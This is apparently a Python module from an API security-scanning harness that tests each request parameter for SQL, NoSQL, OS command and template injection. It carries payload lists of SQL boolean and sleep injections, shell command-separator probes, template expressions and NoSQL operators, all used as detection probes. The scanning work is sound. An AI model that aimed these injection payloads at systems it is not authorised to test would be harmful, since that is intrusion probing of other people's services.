"""Injection in every parameter (path parameters included): SQL, NoSQL, OS command, template.

For each slot of an operation, once per run, starting from a request Schemathesis generated:

- error signatures: a quote (and friends) makes the answer carry a database/shell error the
  original answer did not;
- boolean differential: ``v' OR '1'='1`` and ``v' AND '1'='2`` get different statuses (or a
  different number of items), and the same again when repeated;
- timing: a sleep payload (SQL dialects, shell) delays the answer by the sleep, twice, while the
  same payload with a zero sleep does not;
- reflection of evaluation: ``{{1337*1337}}`` comes back as ``1787569``; a shell ``$((6*7))`` as 42;
- NoSQL operators: ``{"$ne": null}`` in place of a string turns a refusal into 2xx.
Payload styles follow sqlmap's boundary/payload files and PayloadsAllTheThings' lists, reduced to
one or two probes per technique so that a clean slot costs about thirty requests.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlencode

from harness.stages.dast import signatures
from harness.stages.dast.scan_state import ScanState
from harness.stages.dast.slots import Slot, base_text
from harness.stages.dast.wire import Req, Resp, label_tokens

SLEEP_S = 3.0
ERROR_PAYLOADS = ("'", '"', "')--", "`")
BOOLEAN_PAIRS = (("' OR '1'='1", "' AND '1'='2"), (" OR 1=1", " AND 1=2"), ('" OR "1"="1', '" AND "1"="2'))
SQL_SLEEPS = ("' AND SLEEP({s})-- -", "' OR SLEEP({s})-- -", "'; SELECT pg_sleep({s})--",
              "' || pg_sleep({s})--", "1 AND SLEEP({s})", "'; WAITFOR DELAY '0:0:{s}'--")
SHELL_SLEEPS = (";sleep {s}", "|sleep {s}", "$(sleep {s})", "`sleep {s}`", "&& sleep {s}")
TEMPLATES = ("{{1337*1337}}", "${1337*1337}", "<%= 1337*1337 %>", "#{1337*1337}", "{1337*1337}")
TEMPLATE_RESULT = "1787569"
SHELL_ECHO = (";echo h4rn3ss$((6*7))h4rn3ss", "|echo h4rn3ss$((6*7))h4rn3ss",
              "$(echo h4rn3ss$((6*7))h4rn3ss)", "`echo h4rn3ss$((6*7))h4rn3ss`")
SHELL_RESULT = "h4rn3ss42h4rn3ss"
MARK = "HARNESSINJECTIONMARK"  # becomes sqlmap's custom injection marker '*'


def replay(state: ScanState, base: Req, slot: Slot, value: str) -> dict[str, Any]:
    """The request with sqlmap's ``*`` marker after the slot's value (tokens named by owner).

    sqlmap compares answers to the original one: a made-up identifier answers 404 whatever the
    condition, so the value is, where one exists, an identifier the sender's answers carried.
    """
    marked = slot.put(base, _answered(state, base, slot, value) + MARK)
    url = marked.url + (f"?{urlencode(marked.params, doseq=True)}" if marked.params else "")
    body = json.dumps(marked.json) if marked.has_json else ""
    headers = {k: label_tokens(v, state.tokens) for k, v in marked.headers.items()}
    if marked.has_json:
        headers.setdefault("Content-Type", "application/json")
    return {
        "method": marked.method,
        "url": url.replace(MARK, "*"),
        "headers": headers,
        "body": body.replace(MARK, "*"),
    }


def _answered(state: ScanState, base: Req, slot: Slot, value: str) -> str:
    """``value``, or the first of the sender's own identifiers that the operation answers 2xx."""
    owned = state.owned_only_by(base.user) if base.user else []
    # The newest identifiers first, then the user's own names (the oldest entries).
    candidates = dict.fromkeys([value, *reversed(owned[-3:]), *owned[:2]])
    for candidate in candidates:
        if state.send(slot.put(base, candidate)).ok:
            return candidate
    return value


def inject(state: ScanState, base: Req, base_resp: Resp, slot: Slot) -> None:
    """Every technique against one slot; stops at the first finding of each kind."""
    value = base_text(slot.value(base), slot)
    if not _errors(state, base, base_resp, slot, value):
        _boolean(state, base, slot, value)
    _timing(state, base, base_resp, slot, value)
    _reflected(state, base, base_resp, slot, value)
    if slot.location in ("body", "query") and state.enabled("nosql_injection"):
        _nosql(state, base, base_resp, slot)


def _send(
    state: ScanState, base: Req, slot: Slot, payload: Any, timeout_s: float | None = None
) -> tuple[Req, Resp]:
    req = slot.put(base, payload)
    return req, state.send(req, timeout_s=timeout_s)


def _errors(state: ScanState, base: Req, base_resp: Resp, slot: Slot, value: str) -> bool:
    for payload in ERROR_PAYLOADS:
        req, resp = _send(state, base, slot, value + payload)
        for check, pattern in (
            ("sql_injection", signatures.SQL_ERRORS),
            ("nosql_injection", signatures.NOSQL_ERRORS),
            ("command_injection", signatures.SHELL_ERRORS),
        ):
            found = signatures.first_match(pattern, resp.text)
            if found and not signatures.first_match(pattern, base_resp.text) and state.enabled(check):
                extra = {"technique": "error", "slot": slot.name, "replay": replay(state, base, slot, value)}
                state.record(
                    check,
                    req,
                    resp,
                    f"{slot.label}: {payload!r} makes the answer carry an error message: {found}",
                    users=[req.user],
                    extra=extra,
                )
                return True
    return False


def _boolean(state: ScanState, base: Req, slot: Slot, value: str) -> bool:
    if not state.enabled("sql_injection"):
        return False
    for true_suffix, false_suffix in BOOLEAN_PAIRS:
        first = [_send(state, base, slot, value + s) for s in (true_suffix, false_suffix)]
        if not _different(first[0][1], first[1][1]):
            continue
        again = [_send(state, base, slot, value + s) for s in (true_suffix, false_suffix)]
        if _shape(again[0][1]) == _shape(first[0][1]) and _shape(again[1][1]) == _shape(first[1][1]):
            (treq, tresp), (_, fresp) = first
            state.record(
                "sql_injection",
                treq,
                tresp,
                f"{slot.label}: a true condition ({true_suffix.strip()!r}) answers {_shape(tresp)}, a "
                f"false one ({false_suffix.strip()!r}) answers {_shape(fresp)}, twice",
                users=[treq.user],
                extra={"technique": "boolean", "slot": slot.name, "replay": replay(state, base, slot, value)},
            )
            return True
    return False


def _different(left: Resp, right: Resp) -> bool:
    return left.status != 0 and right.status != 0 and _shape(left) != _shape(right)


def _shape(resp: Resp) -> str:
    """Status, and the number of items when the body is a JSON list (or holds one)."""
    body = resp.json()
    items = (
        body
        if isinstance(body, list)
        else next((v for v in body.values() if isinstance(v, list)), None)
        if isinstance(body, dict)
        else None
    )
    return f"{resp.status}" + (f" with {len(items)} item(s)" if items is not None and resp.ok else "")


def _timing(state: ScanState, base: Req, base_resp: Resp, slot: Slot, value: str) -> None:
    if base_resp.elapsed_s > SLEEP_S / 3:
        return  # an operation this slow cannot tell a sleep from its own latency
    for check, payloads in (("sql_injection", SQL_SLEEPS), ("command_injection", SHELL_SLEEPS)):
        if not state.enabled(check):
            continue
        for template in payloads:
            if _slept(state, base, slot, value, template):
                req, resp = _send(state, base, slot, value + template.format(s=int(SLEEP_S)), SLEEP_S * 3)
                state.record(
                    check,
                    req,
                    resp,
                    f"{slot.label}: {template.format(s=int(SLEEP_S))!r} delays the "
                    f"answer to {resp.elapsed_s:.1f}s (twice; with a zero sleep it is fast)",
                    users=[req.user],
                    extra={"technique": "timing", "slot": slot.name},
                )
                break


def _slept(state: ScanState, base: Req, slot: Slot, value: str, template: str) -> bool:
    _, slow = _send(state, base, slot, value + template.format(s=int(SLEEP_S)), SLEEP_S * 3)
    if slow.elapsed_s < SLEEP_S * 0.9:
        return False
    _, quick = _send(state, base, slot, value + template.format(s=0), SLEEP_S * 3)
    return quick.elapsed_s < SLEEP_S / 2


def _reflected(state: ScanState, base: Req, base_resp: Resp, slot: Slot, value: str) -> None:
    for check, payloads, result in (
        ("template_injection", TEMPLATES, TEMPLATE_RESULT),
        ("command_injection", SHELL_ECHO, SHELL_RESULT),
    ):
        if not state.enabled(check) or result in base_resp.text:
            continue
        for payload in payloads:
            req, resp = _send(state, base, slot, value + payload)
            if result in resp.text:
                state.record(
                    check,
                    req,
                    resp,
                    f"{slot.label}: {payload!r} comes back evaluated ({result})",
                    users=[req.user],
                    extra={"technique": "evaluation", "slot": slot.name},
                )
                break


def _nosql(state: ScanState, base: Req, base_resp: Resp, slot: Slot) -> None:
    """An operator in place of the value turns a refusal into 2xx, and a harmless object does not.

    The control matters: an API that ignores unknown query keys (``cursor[$ne]``) or takes any object
    answers the control 2xx too, and then the operator proved nothing.
    """
    if base_resp.ok or not 400 <= base_resp.status < 500:
        return  # an operator that "succeeds" only means something where the plain value was refused
    for operator in ({"$ne": None}, {"$gt": ""}):
        req, resp = _with_object(state, base, slot, operator)
        if resp.ok and not _with_object(state, base, slot, {"harness": None})[1].ok:
            detail = f"{slot.label}: the operator {operator} turns {base_resp.status} into {resp.status}"
            state.record("nosql_injection", req, resp, detail + " (a plain object does not)",
                         users=[req.user], extra={"technique": "operator", "slot": slot.name})
            return


def _with_object(state: ScanState, base: Req, slot: Slot, value: dict[str, Any]) -> tuple[Req, Resp]:
    """``value`` in the slot: a JSON object in a body, ``name[key]=`` in a query (PHP/Express style)."""
    if slot.location != "query":
        return _send(state, base, slot, value)
    params = {k: v for k, v in base.params.items() if k != slot.name}
    req = base.copy(params={**params, f"{slot.name}[{next(iter(value))}]": ""})
    return req, state.send(req)


__all__ = ["inject", "replay"]
